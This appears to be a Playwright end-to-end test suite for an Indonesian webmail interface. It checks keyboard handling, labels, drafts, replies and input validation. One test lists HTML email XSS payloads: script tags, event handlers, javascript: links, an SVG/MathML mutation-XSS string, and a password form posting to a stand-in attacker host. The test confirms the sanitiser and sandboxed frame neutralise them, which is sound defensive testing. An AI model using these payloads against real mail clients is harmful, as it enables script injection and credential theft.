import type { Page } from '@playwright/test';
import { expect, signIn, test } from '#tests/e2e/fixtures.ts';
import { go } from '#tests/e2e/pages/routes.ts';

const rows = (page: Page) => page.locator('[data-letter]');
const idsOf = (page: Page) => rows(page).evaluateAll((all) => all.map((one) => (one as HTMLElement).dataset['letter']));
const toast = (page: Page, text: string) => page.locator('.toast', { hasText: text });

test('mail is read, marked and moved by keyboard, and every step can be undone', async ({ openAs }) => {
  const page = await openAs('pelapor.tapin', '/email');
  await expect(rows(page).first()).toBeVisible();
  const before = await idsOf(page);
  expect(before.length).toBeGreaterThanOrEqual(10);

  await rows(page).first().getByRole('link').focus();
  await page.keyboard.press('ArrowDown');
  await page.keyboard.press('x');
  await expect(rows(page).nth(1).getByRole('checkbox')).toBeChecked();
  await page.keyboard.press('s');
  await expect(rows(page).nth(1).getByRole('button')).toHaveAttribute('aria-pressed', 'true');
  await page.keyboard.press('Delete');
  await expect(rows(page)).toHaveCount(before.length - 1);
  await toast(page, '1 surel dibuang').getByRole('button', { name: 'Urungkan' }).click();
  await expect(rows(page)).toHaveCount(before.length);
  expect(await idsOf(page)).toEqual(before);

  const all = page.getByRole('checkbox', { name: /Pilih semua|terpilih/ });
  await all.check();
  await expect(page.getByText(`${before.length} surel terpilih`).first()).toBeVisible();
  await all.uncheck();
  await expect(page.getByRole('group', { name: 'Tindakan untuk surel terpilih' })).toHaveCount(0);

  // The menu of labels tells which ones the selected letters carry: all of them, some, or none.
  const personal = async () => {
    await page
      .getByRole('group', { name: 'Tindakan untuk surel terpilih' })
      .getByRole('button', { name: 'Beri atau lepas label' })
      .click();
    return page.getByRole('menuitemcheckbox', { name: 'Pribadi', exact: true });
  };
  const bare = rows(page).filter({ hasNotText: 'Pribadi' });
  await bare.first().getByRole('checkbox').check();
  await expect(await personal()).toHaveAttribute('aria-checked', 'false');
  await page.getByRole('menuitemcheckbox', { name: 'Pribadi', exact: true }).click();
  await expect(await personal()).toHaveAttribute('aria-checked', 'true');
  await page.keyboard.press('Escape');
  await bare.first().getByRole('checkbox').check();
  await expect(await personal()).toHaveAttribute('aria-checked', 'mixed');
  await page.keyboard.press('Escape');
  await page.getByRole('button', { name: 'Batalkan pilihan' }).click();

  await rows(page).first().getByRole('link').press('Enter');
  await expect(page).toHaveURL(/surat=/);
  await expect(page.getByText(`1 dari ${before.length}`)).toBeVisible();
  await page.getByRole('button', { name: 'Surel berikutnya' }).click();
  await expect(page.getByText(`2 dari ${before.length}`)).toBeVisible();
  await expect(page).toHaveURL(new RegExp(`surat=${before[1]}`));

  await page.getByRole('searchbox').fill('penyebut');
  await expect(rows(page)).toHaveCount(1);
  await expect(page).toHaveURL(/q=penyebut/);
  await expect(page.getByText('Surel itu tidak ada lagi di daftar ini')).toBeVisible();
});

test('each person has a mailbox of their own, and what is written outlives the page', async ({ openAs }) => {
  const [one, other] = await Promise.all([
    openAs('pelapor.tapin', '/email/starred'),
    openAs('verifikator.tapin', '/email/label/important'),
  ]);
  await expect(rows(one).first()).toBeVisible();
  await expect(rows(other).first()).toBeVisible();
  const mine = await idsOf(one);
  expect((await idsOf(other)).filter((id) => mine.includes(id))).toEqual([]);

  await other.getByRole('button', { name: 'Tulis surel' }).click();
  await other.getByLabel('Subjek').fill('Bukti triwulan');
  await other.getByLabel('Isi', { exact: true }).fill('Mohon diunggah ulang.');
  await expect(other.getByText('Tersimpan di perangkat ini')).toBeVisible();
  await other.reload();
  await expect(other.getByLabel('Isi', { exact: true })).toHaveValue('Mohon diunggah ulang.');
  await expect(other.getByRole('link', { name: 'Bukti triwulan' })).toBeVisible();

  await other.getByRole('button', { name: 'Kirim', exact: true }).click();
  await expect(other.getByText('Isi alamat penerima.')).toBeVisible();
  await other.getByLabel('Kepada').fill('Pelapor <pelapor.tapin@capaian.example>; dinas@luar.example');
  await other.getByRole('button', { name: 'Kirim', exact: true }).click();
  // Without a mail server nothing is promised, and nothing that was written is lost.
  await expect(other.getByRole('alert').filter({ hasText: 'dinas@luar.example' })).toBeVisible();
  await expect(other.getByLabel('Isi', { exact: true })).toHaveValue('Mohon diunggah ulang.');
});

test('a letter is there for the other person without a reload, and is answered with all of it', async ({ openAs }) => {
  const [one, other] = await Promise.all([
    openAs('pelapor.tapin', '/email/inbox'),
    openAs('verifikator.tapin', '/email/inbox'),
  ]);
  await expect(rows(one).first()).toBeVisible();
  const before = await rows(one).count();
  await other.getByRole('button', { name: 'Tulis surel' }).click();
  await other.getByLabel('Kepada').fill('pelapor.tapin@capaian.example');
  await other.getByLabel('Subjek').fill('Bukti <b>TW2</b>');
  await other
    .getByLabel('Isi', { exact: true })
    .fill('Yth. Ibu,\n\nangka 1 < 2\nlihat https://capaian.example/a?b=1&c=2');
  await other.getByRole('button', { name: 'Kirim', exact: true }).click();
  await expect(other.getByText('Surel terkirim.')).toBeVisible();
  await expect(other.locator('.mail-write')).toHaveCount(0);

  await expect(rows(one)).toHaveCount(before + 1);
  await one.getByText('Bukti <b>TW2</b>').first().click();
  const letter = one.frameLocator('.mail-reader iframe');
  await expect(letter.getByText('angka 1 < 2')).toBeVisible();
  await expect(letter.getByRole('link', { name: 'https://capaian.example/a?b=1&c=2' })).toBeVisible();
  await one.getByRole('button', { name: 'Balas' }).click();
  await expect(one.getByLabel('Kepada')).toHaveValue('verifikator.tapin@capaian.example');
  await expect(one.getByLabel('Isi', { exact: true })).toHaveValue(
    /> Yth\. Ibu,\n>\n> angka 1 < 2\n> lihat https:\/\/capaian\.example\/a\?b=1&c=2$/,
  );
  await one.getByRole('button', { name: 'Kirim', exact: true }).click();
  await expect(other.getByText('Re: Bukti <b>TW2</b>').first()).toBeVisible();
  await other.goto('/email/sent');
  await expect(rows(other).first()).toContainText('Bukti <b>TW2</b>');
});

const EVIL = 'https://jahat.example';
const HOSTILE: Record<string, string> = {
  script: `<script>parent.bocor = 'script'</script><script src="${EVIL}/a.js"></script>`,
  'event handler': `<img src="x" onerror="parent.bocor='onerror'"><p onclick="parent.bocor=1" onmouseover="x()">a</p>`,
  'javascript address': `<a href="javascript:parent.bocor='a'">a</a><a href=" jAvascript:alert(1)">b</a><a href="/keluar">c</a>`,
  drawing: `<svg onload="parent.bocor='svg'"><script>parent.bocor='svg'</script><a xlink:href="javascript:1">x</a></svg><math><mtext></form><form><mglyph><style></math><img src onerror="parent.bocor='mxss'">`,
  'style sheet': `<style>@import url("${EVIL}/a.css"); body { background: url(${EVIL}/b.png) }</style><p style="background-image:url(${EVIL}/c.png);position:fixed;color:red">a</p><link rel="stylesheet" href="${EVIL}/d.css">`,
  form: `<form action="${EVIL}/curi"><input name="sandi" autofocus><button formaction="${EVIL}/x">Masuk</button></form>`,
  'way out': `<meta http-equiv="refresh" content="0;url=${EVIL}/pindah"><base href="${EVIL}/"><iframe src="${EVIL}/i"></iframe><object data="${EVIL}/o"></object>`,
  picture: `<img src="${EVIL}/p.gif" alt="Kop surat"><img srcset="${EVIL}/s.png 2x"><video poster="${EVIL}/v.png" src="${EVIL}/v.mp4"></video><picture><source srcset="${EVIL}/w.png"></picture>`,
};

test('a hostile letter runs nothing, asks nobody and sends nothing', async ({ openAs, faults }) => {
  const page = await openAs('pelapor.tapin', '/email');
  await expect(rows(page).first()).toBeVisible();
  const ids = await idsOf(page);
  const asked: string[] = [];
  page.on('request', (request) => {
    if (request.url().startsWith(EVIL)) asked.push(request.url());
  });
  page.on('dialog', (dialog) => void dialog.dismiss());
  let body = '';
  await page.route('**/apps/email/get-email*', async (route) => {
    const answer = await route.fetch();
    await route.fulfill({
      response: answer,
      json: { ...((await answer.json()) as object), message: body, replies: [] },
    });
  });
  for (const [index, [name, html]] of Object.entries(HOSTILE).entries()) {
    body = `<p>Selamat pagi ${index}. <a href="https://www.bps.go.id/">BPS</a></p>${html}`;
    await go(page, `/email/inbox?surat=${ids[index]}`);
    const letter = page.frameLocator('.ui-safe-frame');
    await expect(letter.getByText(`Selamat pagi ${index}.`), name).toBeVisible();
    const found = await letter.locator('html').evaluate((root) => ({
      tags: [...root.querySelectorAll('body *')]
        .map(({ localName }) => localName)
        .filter((tag) => !['p', 'a', 'img', 'br'].includes(tag)),
      attributes: [...root.querySelectorAll('body *')].flatMap((one) =>
        one
          .getAttributeNames()
          .filter((key) => key.startsWith('on') || /javascript:|url\(/i.test(one.getAttribute(key) ?? '')),
      ),
      link: [...root.querySelectorAll('a[href]')].map((one) => [one.getAttribute('target'), one.getAttribute('rel')]),
      address: location.href,
    }));
    expect(found, name).toEqual({
      tags: [],
      attributes: [],
      link: [['_blank', 'noopener noreferrer']],
      address: 'about:srcdoc',
    });
  }
  expect(asked).toEqual([]);
  expect(faults).toEqual([]);
  expect(await page.evaluate(() => 'bocor' in window)).toBe(false);
  await expect(page.getByText(/gambar dari luar tidak dimuat/)).toBeVisible();
});

test('the frame by itself runs nothing, whatever got past the sanitiser and the policy of the page', async ({
  browser,
  address,
}) => {
  const context = await browser.newContext({ baseURL: address, bypassCSP: true });
  const page = await context.newPage();
  await signIn(page, 'pelapor.tapin', { at: '/email' });
  await rows(page).first().getByRole('link').click();
  const frame = page.locator('.ui-safe-frame');
  await expect(frame).toHaveAttribute('sandbox', 'allow-same-origin allow-popups allow-popups-to-escape-sandbox');
  await frame.evaluate(
    (one: HTMLIFrameElement) =>
      new Promise<void>((resolve) => {
        one.addEventListener('load', () => resolve(), { once: true });
        one.srcdoc = '<p>Lolos</p><script>parent.bocor = 1</scr' + 'ipt><img src=x onerror="parent.bocor = 2">';
      }),
  );
  await expect(page.frameLocator('.ui-safe-frame').getByText('Lolos')).toBeVisible();
  expect(await page.evaluate(() => 'bocor' in window)).toBe(false);
  await context.close();
});

test('a letter keeps its looks and its words under a policy that allows no inline style', async ({ openAs }) => {
  const page = await openAs('pelapor.tapin', '/email');
  await page.route('**/apps/email/get-email*', async (route) => {
    const answer = await route.fetch();
    const message = `<p id=a style="color: rgb(200, 0, 0); position: fixed; margin-left: 12px">Merah</p>
      <p STYLE='text-align:right'title="a style=b">Tulis style="x" dan / style = y di sini, juga STYLE=z.</p>
      <style>p { color: blue }</style><p data-style="font-weight: 700; background: url(/x.png)">Tebal</p>`;
    await route.fulfill({ response: answer, json: { ...((await answer.json()) as object), message, replies: [] } });
  });
  await rows(page).first().getByRole('link').click();
  const letter = page.frameLocator('.ui-safe-frame');
  await expect(letter.getByText('Merah')).toHaveCSS('color', 'rgb(200, 0, 0)');
  const shown = await letter.locator('body').evaluate((body) =>
    [...body.querySelectorAll('p')].map((one) => {
      const { color, position, textAlign, fontWeight, backgroundImage, marginLeft } = getComputedStyle(one);
      const looks = { color, position, textAlign, fontWeight, backgroundImage, marginLeft };
      return { words: one.textContent, title: one.title, names: one.getAttributeNames().toSorted(), ...looks };
    }),
  );
  const plain = {
    title: '',
    color: 'rgb(31, 36, 48)',
    position: 'static',
    textAlign: 'start',
    fontWeight: '400',
    backgroundImage: 'none',
    marginLeft: '0px',
  };
  expect(shown).toEqual([
    { ...plain, words: 'Merah', names: ['style'], color: 'rgb(200, 0, 0)', marginLeft: '12px' },
    {
      ...plain,
      words: 'Tulis style="x" dan / style = y di sini, juga STYLE=z.',
      names: ['style', 'title'],
      title: 'a style=b',
      textAlign: 'right',
    },
    { ...plain, words: 'Tebal', names: ['style'], fontWeight: '700' },
  ]);
});

test('the frame of a letter is as high as the letter, on a phone too', async ({ openAs }) => {
  const page = await openAs('pelapor.tapin', '/email');
  await page.setViewportSize({ width: 360, height: 740 });
  await rows(page).first().getByRole('link').click();
  const frame = page.locator('.ui-safe-frame');
  await expect
    .poll(async () =>
      frame.evaluate((one: HTMLIFrameElement) => {
        const inner = one.contentDocument?.body.getBoundingClientRect().height ?? 0;
        return inner > 100 && Math.abs(one.clientHeight - inner) < 4;
      }),
    )
    .toBe(true);
  await page.getByRole('button', { name: 'Kembali ke Masuk' }).click();
  await expect(rows(page).first()).toBeVisible();
});

test('an address and a link are asked for one at a time, and what is none is refused in the words of the specification', async ({
  openAs,
}) => {
  const page = await openAs('pelapor.tapin', '/email');
  await page
    .getByRole('link', { name: 'Tulis surel' })
    .or(page.getByRole('button', { name: 'Tulis surel' }))
    .click();
  const dialog = page.getByRole('dialog');
  const input = dialog.getByRole('textbox');
  for (const [ask, bad, refusal, good] of [
    ['Tambah penerima', 'kepala@', 'Invalid email address', 'kepala@tapin.example'],
    ['Tambah penerima', '', 'Invalid email address', 'wakil@tapin.example'],
    ['Tambah tautan', 'tapin.example', 'Invalid URL', 'https://tapin.example/laporan?tw=2'],
  ] as const) {
    await page.getByRole('button', { name: ask }).click();
    await expect(input).toBeFocused();
    await input.fill(bad);
    await page.keyboard.press('Enter');
    await expect(dialog.getByText(refusal)).toBeVisible();
    await input.fill(good);
    await dialog.getByRole('button', { name: 'OK' }).click();
    await expect(dialog).toHaveCount(0);
  }
  await page.getByRole('button', { name: 'Tambah tautan' }).click();
  await input.fill('https://tidak.example');
  await dialog.getByRole('button', { name: 'Cancel' }).click();
  await expect(page.getByLabel('Kepada')).toHaveValue('kepala@tapin.example, wakil@tapin.example');
  await expect(page.getByLabel('Isi', { exact: true })).toHaveValue('https://tapin.example/laporan?tw=2');
});
